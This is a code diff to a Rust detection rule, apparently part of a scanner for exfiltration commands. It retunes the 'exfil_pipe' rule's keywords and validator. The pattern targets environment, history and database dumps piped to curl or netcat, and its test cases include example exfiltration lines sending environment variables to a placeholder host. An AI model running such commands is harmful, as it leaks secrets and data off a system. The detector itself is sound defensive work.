@@ -123,12 +123,12 @@ pub(super) const RULES: &[Rule] = &[
     },
     Rule {
         id: "exfil_pipe",
-        wake: Wake::Keywords(&["|"]),
+        wake: Wake::Keywords(&["curl ", "nc ", "ncat ", "netcat ", "telnet "]),
         pattern: concat!(
             r"(?-u:\b)(?:env|printenv|whoami|history|ifconfig|ps aux|netstat -[a-z]{1,6}|uname -a|tar [^\n|]{1,60}|mysqldump [^\n|]{1,80}|pg_dump [^\n|]{1,80}) {0,3}\|[^\n]{0,60}?(?-u:\b)",
             "(?:curl [^\\n]{0,160}|(?:nc|ncat|netcat|telnet) (?:-[a-z0-9]{1,4} ){0,3}[A-Za-z0-9$][^\\n]{0,60})",
         ),
-        validate: Some(piped),
+        validate: Some(local),
         matches: &["env | curl -X POST -d @- https://a.example", "printenv | base64 | nc a.example 9001"],
         misses: &["env | grep PATH", "history | tail", "tar c src | gzip > a.tgz"],
         ..EXFILTRATION
@@ -228,10 +228,6 @@ fn substituted(candidate: &Candidate<'_>) -> Option<f32> {
     };
     // A version or a token out of a file, in a header, is how scripts talk to an API.
     Some(if has_any(hit, &["authorization", "bearer", "-h "]) { 0.35 } else { score })
-}
-
-fn piped(candidate: &Candidate<'_>) -> Option<f32> {
-    local(candidate)
 }
 
 fn local(candidate: &Candidate<'_>) -> Option<f32> {
